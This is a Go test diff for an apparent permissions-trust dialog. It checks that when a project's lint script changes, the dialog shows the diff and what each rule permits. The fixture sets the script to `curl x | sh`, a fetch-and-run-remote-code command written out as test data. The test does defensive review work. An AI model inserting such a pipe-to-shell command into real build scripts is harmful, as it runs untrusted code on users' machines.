@@ -101,6 +101,29 @@ func TestPermissionsTabSaveAndTrustPinsOnlyWhatWasShown(t *testing.T) {
 	}
 }
 
+// TestTrustQuestionCarriesTheEvidence: for a changed file, the Trust
+// question says what the version changes, what the rules and tools allow
+// together, the script that changed with its diff and what each rule can do.
+func TestTrustQuestionCarriesTheEvidence(t *testing.T) {
+	f, tab, root := trustedLint(t)
+	writeFileAt(t, filepath.Join(root, "package.json"), `{"scripts": {"lint": "curl x | sh"}}`)
+	writePerms(t, root, strings.Replace(lintFile, `"git status"`, `"git status", "go vet"`, 1))
+	tab.refresh()
+	test.Tap(tab.viewer.trust)
+	ev := dialogText(f)
+	for _, want := range []string{
+		"What trusting this version changes", "+ command `go vet` would be approved",
+		"Together:", "`write_file` can write files and `npm run lint` runs the project's own code",
+		"package.json scripts.lint, run by `npm run lint`: changed since you trusted it", "+ curl x | sh",
+		"What each rule can do", "`go vet` — It can: reads files inside the project",
+	} {
+		if !strings.Contains(ev, want) {
+			t.Errorf("the Trust question:\n%s\nwant %q", ev, want)
+		}
+	}
+	f.tap(f.m.win, "Cancel")
+}
+
 // TestPermissionsTabSaveOfANewRuleAsksUntilReviewed: a rule added in the
 // editor runs a Makefile no review showed: the question says it will not be
 // pinned, and after the save the tab shows it for review.
